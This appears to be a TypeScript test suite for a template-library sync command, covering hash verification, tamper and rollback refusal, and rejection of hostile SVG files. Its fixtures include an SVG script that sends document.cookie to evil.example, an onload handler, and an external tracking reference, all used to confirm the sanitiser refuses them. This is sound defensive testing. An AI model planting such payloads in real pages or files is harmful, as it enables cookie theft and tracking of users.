import { createHash } from 'node:crypto';
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import type { Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { integrity } from '../../worker/src/library/canonical-json';
import { itemHash } from '../../worker/src/library/item-hash';
import { buildManifest, manifestHash } from '../../worker/src/library/manifest';
import { baseUrl, call, LANES, type Lane } from '../support/lanes';
import { LIBRARY, libraryAdmin, templatePack, token } from '../support/library-admin';
import { LibraryProxy, runLibrarySync } from '../support/library-proxy';
import { createTestServer } from '../support/test-server';

/**
 * `npm run hub -- library sync --from SITE --dir DIR` against the real hub on both lanes,
 * through a proxy that counts every request and can tamper with answers.
 */
const MANIFEST_PATH = `${LIBRARY}/image-library/manifest`;
const readJson = (file: string) => JSON.parse(readFileSync(file, 'utf8'));

describe.each(LANES)('library sync from the %s lane', (lane: Lane) => {
  const proxy = new LibraryProxy(baseUrl(lane));
  const dir = mkdtempSync(join(tmpdir(), 'svc-library-sync-'));
  const tag = token();
  const ids: Record<string, string> = {};
  let from = '';
  const state = () => readJson(join(dir, '.svc-library-sync.json'));
  const template = (name: string) => readJson(join(dir, 'templates', `${ids[name]}.json`));
  const sync = async () => {
    proxy.reset();
    return runLibrarySync(from, dir);
  };

  beforeAll(async () => {
    from = await proxy.start();
    const imported = await libraryAdmin(
      lane,
      'POST',
      '/import',
      templatePack(['a', 'b', 'c'].map((name) => ({ slug: `${tag}-${name}`, title: `Sync ${name}` }))),
    );
    for (const item of imported.body.created) ids[item.slug.slice(tag.length + 1)] = item.id;
  });

  afterAll(async () => {
    await proxy.stop();
    rmSync(dir, { recursive: true, force: true });
  });

  it('downloads everything on the first sync, verifying every item and file', async () => {
    const run = await sync();
    expect([run.status, run.stderr]).toEqual([0, '']);
    const manifest = (await call(lane, MANIFEST_PATH)).body;
    expect(state()).toMatchObject({ version: manifest.version, hash: manifest.hash, etag: `"${manifest.hash}"` });
    const all = [...manifest.items.templates, ...manifest.items.samples, ...manifest.items.assets];
    expect(Object.keys(state().items).sort()).toEqual(all.map((entry: { id: string }) => entry.id).sort());
    for (const entry of manifest.items.templates) {
      const saved = readJson(join(dir, 'templates', `${entry.id}.json`));
      expect(saved.hash).toBe(entry.hash);
      const preview = readFileSync(
        join(dir, 'files', `${Buffer.from(saved.files['preview.svg'].hash.slice(7), 'base64').toString('hex')}.svg`),
      );
      expect(`sha256-${createHash('sha256').update(preview).digest('base64')}`).toBe(saved.files['preview.svg'].hash);
    }
    expect(existsSync(join(dir, 'manifest.json'))).toBe(true);
    const types = new Set([
      ...manifest.items.samples.map((entry: { type: string }) => `samples/${entry.type}`),
      ...manifest.items.assets.map((entry: { type: string }) => `assets/${entry.type}`),
    ]);
    const paths = proxy.paths();
    expect(paths[0]).toBe(MANIFEST_PATH);
    expect(paths.filter((path) => path.startsWith(`${LIBRARY}/image-templates/`))).toHaveLength(manifest.counts.templates);
    expect(paths).toHaveLength(1 + manifest.counts.templates + types.size);
  });

  it('makes exactly one request, answered 304, when nothing changed', async () => {
    const run = await sync();
    expect(run.status).toBe(0);
    expect(proxy.requests).toEqual([{ path: MANIFEST_PATH, ifNoneMatch: state().etag }]);
    expect(run.stdout).toContain('up to date');
  });

  it('fetches exactly the one template that changed', async () => {
    const before = state().version;
    await libraryAdmin(lane, 'POST', '/import', templatePack([{ slug: `${tag}-a`, title: 'Sync a, changed' }]));
    const run = await sync();
    expect(run.status).toBe(0);
    expect(proxy.paths()).toEqual([MANIFEST_PATH, `${LIBRARY}/image-templates/${ids.a}`]);
    expect(template('a').title).toBe('Sync a, changed');
    expect(state().version).toBe(before + 1);
    expect(run.stdout).toContain('1 fetched, 0 removed');
  });

  it('removes an item gone from the manifest', async () => {
    await libraryAdmin(lane, 'DELETE', `/items/${ids.c}`);
    const run = await sync();
    expect(run.status).toBe(0);
    expect(proxy.paths()).toEqual([MANIFEST_PATH]);
    expect(existsSync(join(dir, 'templates', `${ids.c}.json`))).toBe(false);
    expect(state().items[ids.c!]).toBeUndefined();
  });

  it('refuses a tampered item, keeping the old copy and the old version, and takes the real one next time', async () => {
    const before = state();
    await libraryAdmin(lane, 'POST', '/import', templatePack([{ slug: `${tag}-b`, title: 'Sync b, second edition' }]));
    proxy.tamper = (path, body) => (path.endsWith(ids.b!) ? body.replace('Sync b, second edition', 'Sync b, tampered') : body);
    const refused = await sync();
    proxy.tamper = null;
    expect(refused.status).toBe(1);
    expect(refused.stderr).toContain(`refused ${ids.b} (${tag}-b): its content does not match its hash`);
    expect(refused.stderr).toContain('1 item(s) refused');
    expect(template('b').title).toBe('Sync b');
    expect([state().version, state().etag]).toEqual([before.version, before.etag]);

    const healed = await sync();
    expect(healed.status).toBe(0);
    expect(template('b').title).toBe('Sync b, second edition');
    expect(state().version).toBe(before.version + 1);
  });

  it('refuses a manifest whose version went back (even with a correct hash)', async () => {
    const before = state();
    proxy.dropConditional = true;
    proxy.tamper = (path, body) => {
      if (path !== MANIFEST_PATH) return body;
      const manifest = JSON.parse(body);
      manifest.version -= 1;
      manifest.hash = manifestHash(manifest);
      return JSON.stringify(manifest);
    };
    const run = await sync();
    proxy.tamper = null;
    proxy.dropConditional = false;
    expect(run.status).toBe(1);
    expect(run.stderr).toContain(`its version ${before.version - 1} is lower than this folder's ${before.version}`);
    expect(state()).toEqual(before);
  });

  it('refuses a manifest that does not match its own hash', async () => {
    proxy.dropConditional = true;
    proxy.tamper = (path, body) =>
      path === MANIFEST_PATH ? body.replace(/"version":(\d+)/, (_whole, version) => `"version":${Number(version) + 5}`) : body;
    const run = await sync();
    proxy.tamper = null;
    proxy.dropConditional = false;
    expect(run.status).toBe(1);
    expect(run.stderr).toContain('refused the manifest: the manifest does not match its own hash');
  });
});

/**
 * A hub that serves a library whose SVGs carry a script, an event handler or an external
 * reference, with every hash correct (the manifest, the items and the files agree): what a
 * compromised hub, or one whose store was edited by hand, would send. Sync runs each file
 * through the import's sanitiser and refuses any the sanitiser would change.
 */
describe('library sync from a hub serving hostile SVG', () => {
  const CLEAN = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100"><rect width="100" height="100" fill="#ff7a59"/></svg>';
  const HOSTILE: Record<string, { svg: string; removed: string }> = {
    script: {
      svg: '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100"><script>fetch("https://evil.example/?"+document.cookie)</script></svg>',
      removed: 'script',
    },
    handler: {
      svg: '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 100 100" onload="alert(1)"><rect width="1" height="1"/></svg>',
      removed: 'event handler',
    },
    external: {
      svg: '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 100"><image width="100" height="100" xlink:href="https://evil.example/track.png"/></svg>',
      removed: 'external reference',
    },
  };
  const files = new Map<string, Buffer>();
  const routes = new Map<string, string>();
  const ids: Record<string, string> = {};
  let server: Server;
  let from = '';
  const dir = mkdtempSync(join(tmpdir(), 'svc-library-sync-hostile-'));

  function template(name: string, index: number, svg: string) {
    const bytes = Buffer.from(svg);
    const hex = createHash('sha256').update(bytes).digest('hex');
    files.set(`/files/${hex}.svg`, bytes);
    const fields = {
      slug: `hostile-${name}`,
      title: `Hostile ${name}`,
      category: 'social-post',
      type: 'instagram-post',
      tags: [],
      width: 1080,
      height: 1080,
      format: 'png',
      definition: { schema: 1, background: '#ffffff', layers: [] },
    };
    const file = { hash: integrity(bytes), length: bytes.length, media_type: 'image/svg+xml', url: `${from}/files/${hex}.svg` };
    const hash = itemHash('template', fields, { 'preview.svg': file.hash });
    const id = `tpl_01JHOSTILE${String(index).padStart(16, '0')}`;
    ids[name] = id;
    routes.set(
      `/wp-json/svc/v1/image-templates/${id}`,
      JSON.stringify({
        id,
        ...fields,
        preview_url: file.url,
        files: { 'preview.svg': file },
        version: 1,
        hash,
        updated_at: '2026-11-24T00:00:00.000Z',
      }),
    );
    return { id, slug: fields.slug, hash, version: 1, updated_at: '2026-11-24T00:00:00.000Z' };
  }

  beforeAll(async () => {
    server = createTestServer((request, response) => {
      const path = request.url ?? '/';
      const file = files.get(path);
      const json = routes.get(path);
      if (file) response.writeHead(200, { 'Content-Type': 'image/svg+xml' }).end(file);
      else if (json) response.writeHead(200, { 'Content-Type': 'application/json' }).end(json);
      else response.writeHead(404).end();
    });
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    from = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
    const entries = [
      template('clean', 0, CLEAN),
      ...Object.entries(HOSTILE).map(([name, { svg }], index) => template(name, index + 1, svg)),
    ];
    routes.set(
      '/wp-json/svc/v1/image-library/manifest',
      JSON.stringify(buildManifest(3, new Date('2026-11-24T00:00:00.000Z'), { templates: entries, samples: [], assets: [] })),
    );
  });

  afterAll(async () => {
    await new Promise<void>((resolve) => server.close(() => resolve()));
    rmSync(dir, { recursive: true, force: true });
  });

  it('refuses every item whose SVG an import would sanitise, even with correct hashes, and writes none of their bytes', async () => {
    const run = await runLibrarySync(from, dir);
    expect(run.status).toBe(1);
    for (const [name, { removed }] of Object.entries(HOSTILE)) {
      expect(run.stderr).toContain(
        `refused ${ids[name]} (hostile-${name}): file preview.svg is not sanitised SVG (an import would remove: `,
      );
      expect(run.stderr).toMatch(new RegExp(`refused ${ids[name]} [^\\n]*${removed}`));
      expect(existsSync(join(dir, 'templates', `${ids[name]}.json`))).toBe(false);
    }
    expect(run.stderr).toContain('3 item(s) refused');
    // The clean item is mirrored; no hostile byte reached the folder, and its version did not advance.
    expect(existsSync(join(dir, 'templates', `${ids.clean}.json`))).toBe(true);
    const written = readdirSync(join(dir, 'files')).map((name) => readFileSync(join(dir, 'files', name), 'utf8'));
    expect(written).toEqual([CLEAN]);
    expect(readJson(join(dir, '.svc-library-sync.json')).version).toBe(0);
  });

  it('deletes an unclean file an older client left in the folder, and does not take it again', async () => {
    const bytes = Buffer.from(HOSTILE.script!.svg);
    const hex = createHash('sha256').update(bytes).digest('hex');
    const statePath = join(dir, '.svc-library-sync.json');
    const state = readJson(statePath);
    state.items[ids.script!] = {
      kind: 'template',
      slug: 'hostile-script',
      hash: JSON.parse(routes.get(`/wp-json/svc/v1/image-templates/${ids.script}`)!).hash,
      files: [hex],
    };
    writeFileSync(statePath, JSON.stringify(state));
    writeFileSync(join(dir, 'files', `${hex}.svg`), bytes);
    writeFileSync(join(dir, 'templates', `${ids.script}.json`), routes.get(`/wp-json/svc/v1/image-templates/${ids.script}`)!);
    const run = await runLibrarySync(from, dir);
    expect(run.status).toBe(1);
    expect(run.stderr).toContain(`refused ${ids.script} (hostile-script): file preview.svg is not sanitised SVG`);
    expect(existsSync(join(dir, 'files', `${hex}.svg`))).toBe(false);
    expect(readdirSync(join(dir, 'files')).map((name) => readFileSync(join(dir, 'files', name), 'utf8'))).toEqual([CLEAN]);
  });
});

describe('library sync without a hub', () => {
  it('explains a bad --from and an unreachable site, without needing a database', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'svc-library-sync-'));
    try {
      const bad = await runLibrarySync('ftp://hub.example', dir);
      expect([bad.status, bad.stderr.trim()]).toEqual([2, 'error: --from must be an http(s) URL.']);
      const unreachable = await runLibrarySync('http://127.0.0.1:9', dir);
      expect(unreachable.status).toBe(1);
      expect(unreachable.stderr).toMatch(/^error: GET http:\/\/127\.0\.0\.1:9\/wp-json\/svc\/v1\/image-library\/manifest failed/);
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });
});
